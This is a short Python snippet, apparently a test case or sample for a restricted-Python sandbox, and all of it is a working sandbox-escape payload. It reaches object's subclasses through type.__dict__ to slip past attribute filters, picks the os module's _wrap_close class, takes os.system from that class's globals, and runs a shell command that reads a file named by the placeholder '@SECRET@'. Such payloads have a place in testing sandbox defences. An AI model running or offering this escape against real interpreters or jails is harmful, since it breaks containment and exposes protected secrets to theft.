# type.__dict__ holds the method as a descriptor.
# effect: run
kinds = type.__dict__["__subclasses__"](object)
[k for k in kinds if k.__name__ == "_wrap_close"][0].__init__.__globals__["system"]("cat @SECRET@")
